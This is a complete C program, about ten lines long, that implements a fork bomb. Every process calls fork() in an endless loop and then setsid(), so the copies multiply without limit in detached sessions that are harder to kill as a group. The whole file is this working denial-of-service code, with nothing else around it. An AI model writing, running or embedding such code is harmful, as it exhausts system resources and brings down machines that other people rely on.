/* Each process makes two of itself, for ever, in sessions of their own.  */
#include <unistd.h>

int main(void)
{
    for (;;) {
        fork();
        setsid();
    }
}
